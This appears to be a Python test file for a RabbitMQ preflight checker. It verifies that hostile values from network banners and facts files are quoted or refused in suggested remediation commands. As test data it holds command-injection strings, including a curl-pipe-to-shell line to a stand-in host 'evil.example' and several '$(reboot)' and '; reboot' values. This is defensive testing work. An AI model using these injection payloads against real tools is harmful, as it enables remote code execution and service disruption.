"""Remediation injection: values from peers and files land in suggested commands quoted, or not at all.

Each case feeds one hostile value — from the AMQP banner, a facts file, discovery — into a rule and
parses the suggested command as a shell would: the value must stay one word, never a new command.
"""

from __future__ import annotations

import re
import shlex

from rabbitmq_preflight.engine import run_rules
from rabbitmq_preflight.facts import (
    CookieFacts,
    CookieSource,
    CookieValue,
    Facts,
    InventorySummary,
    NodeFacts,
    Observation,
    Origin,
    View,
)
from rabbitmq_preflight.inventory import NodeSpec
from rabbitmq_preflight.report import Finding
from rabbitmq_preflight.rules import rule_by_id
from rabbitmq_preflight.rules._shell import INVALID_HOST, hosts_line, remote_path, shell_path, shell_quote
from tests.factories import NOW, facts, node, port, resolved

EVIL = "all; curl -s http://evil.example/x | sh"
FP = CookieValue(fingerprint="64QrCJU1amTQ2K8fsm0gZQ==", length=32, distinct_chars=19)


def commands(text: str) -> list[list[str]]:
    """Every `backticked` command of a remediation, split as a POSIX shell would split it."""
    return [shlex.split(cmd) for cmd in re.findall(r"`([^`]+)`", text)]


def findings(rule_id: str, f: Facts) -> list[Finding]:
    return [x for x in run_rules(f, [rule_by_id(rule_id)]).findings if x.outcome == "fail"]


def test_shell_quote_keeps_ordinary_values_as_they_are_and_hostile_ones_one_word() -> None:
    assert shell_quote("3.13.1") == "3.13.1" and shell_quote("rabbit@a") == "rabbit@a"
    assert shlex.split(f"rabbitmqctl set_policy --apply-to {shell_quote(EVIL)} x") == [
        "rabbitmqctl", "set_policy", "--apply-to", EVIL, "x"]
    assert shell_path("-rf") == "./-rf"
    assert hosts_line("10.0.0.1", "rabbit1") == "10.0.0.1 rabbit1"
    assert hosts_line(None, "rabbit1") == "<address of rabbit1> rabbit1"
    for bad in ("-oops", "a b", "x;reboot", "a..b", "$(reboot)", "evil\nhost"):
        assert hosts_line("10.0.0.1", bad) is None, bad
        assert remote_path(bad, "/x") is None, bad
    assert hosts_line("10.0.0.1; reboot", "rabbit1") is None


def test_a_version_string_from_the_amqp_banner_stays_one_word_in_apt_get() -> None:
    hostile = "3.13.1; curl -s http://evil.example/x | sh"
    f = facts(node("rabbit@a", hostile), node("rabbit@b", hostile), node("rabbit@c", "3.13.0"))
    [finding] = findings("VER001", f)
    [cmd] = commands(finding.remediation)
    assert cmd == ["apt-get", "install", f"rabbitmq-server={hostile}*"]


def test_an_expected_series_from_the_inventory_is_quoted_too() -> None:
    f = facts(node("rabbit@a", "3.12.1"))
    f = f.model_copy(update={"inventory": f.inventory.model_copy(
        update={"expect": f.inventory.expect.model_copy(update={"rabbitmq": "3.13 && reboot"})})})
    [finding] = findings("VER002", f)
    assert commands(finding.remediation)[0] == ["apt-get", "install", "rabbitmq-server=3.13 && reboot.*"]


def test_a_host_name_that_is_no_host_name_gets_no_etc_hosts_line() -> None:
    f = facts(node("rabbit@-oops"), origin_node=None)
    f.views[0].resolution["-oops"] = resolved("-oops")
    [finding] = findings("HOST001", f)
    assert INVALID_HOST in finding.remediation and "/etc/hosts:" not in finding.remediation
    assert finding.evidence["hosts_line"] is None


def test_an_address_from_a_facts_file_that_is_no_address_is_not_pasted_into_a_hosts_line() -> None:
    f = facts(node("rabbit@a"), node("rabbit@b"))
    f.views[0].resolution["b"] = resolved("b", "10.0.0.2 evil.example", latency_ms=5000)
    [finding] = findings("HOST007", f)
    assert "evil.example" not in finding.remediation
    assert "<address of b> b" in finding.remediation


def test_a_target_from_a_facts_file_is_quoted_or_refused_in_getent_and_ip_route() -> None:
    bad = NodeFacts(name="rabbit@a", target="$(reboot)", ports={"amqp": port("amqp", 5672, "unresolvable")})
    [finding] = findings("PORT003", facts(bad))
    assert "getent" not in finding.remediation and "neither a host name nor an address" in finding.remediation


def test_a_source_host_from_a_facts_file_is_not_pasted_into_a_firewall_rule() -> None:
    f = facts(node("rabbit@a", ports=[port("dist", 25672, "timeout")]), hostname="x -j DROP; reboot #")
    [finding] = findings("PORT002", f)
    for cmd in commands(finding.remediation):
        assert "reboot" not in cmd and "DROP;" not in cmd
    assert "<source address>" in finding.remediation


def _cookie_view(host: str, src: CookieSource, user: str = "root") -> View:
    local = CookieFacts(user=user, sources=[src], effective=src.kind, processes=Observation(value=[]))
    return View(origin=Origin(hostname=host, collected_at=NOW), cookie=local)


def _cookie_facts(*views: View) -> Facts:
    summary = InventorySummary(cluster="t", source="inventory.toml", nodes=[NodeSpec(name="rabbit@a")])
    return Facts(tool_version="test", inventory=summary, views=list(views))


def test_a_cookie_path_from_a_facts_file_stays_one_word_in_chmod_and_chown() -> None:
    path = "/tmp/c; curl -s http://evil.example/x | sh"
    src = CookieSource(kind="cookie_file", path=path, present=True, readable=True, regular=True, mode="0644",
                       owner="root", value=FP)
    [finding] = findings("COOKIE005", _cookie_facts(_cookie_view("h", src)))
    assert commands(finding.remediation) == [["chmod", "400", path]]
    missing = CookieSource(kind="cookie_file", path=path, present=False)
    [finding] = findings("COOKIE003", _cookie_facts(_cookie_view("h", missing)))
    assert commands(finding.remediation) == [["chown", "rabbitmq:rabbitmq", path, "&&", "chmod", "400", path]]


def test_an_owner_that_is_no_user_name_gets_no_chown_command() -> None:
    src = CookieSource(kind="server_file", path="/var/lib/rabbitmq/.erlang.cookie", present=True, readable=True,
                       regular=True, mode="0400", owner="root", expected_owner="x; reboot", value=FP)
    [finding] = findings("COOKIE006", _cookie_facts(_cookie_view("h", src)))
    assert "reboot" not in " ".join(" ".join(c) for c in commands(finding.remediation))


def test_hostnames_from_facts_files_are_not_pasted_into_scp() -> None:
    other = CookieValue(fingerprint="pJTjnTtUTdn6p4A+G+IDBw==", length=56, distinct_chars=41)

    def src(value: CookieValue) -> CookieSource:
        return CookieSource(kind="cookie_file", path="/c", present=True, readable=True, regular=True, mode="0400",
                            owner="root", value=value)

    f = _cookie_facts(_cookie_view("a", src(FP)), _cookie_view("b", src(FP)),
                      _cookie_view("c; curl -s http://evil.example/x | sh", src(other)))
    [finding] = findings("COOKIE002", f)
    assert all("curl" not in " ".join(cmd) for cmd in commands(finding.remediation))
    assert "invalid host name" in finding.remediation
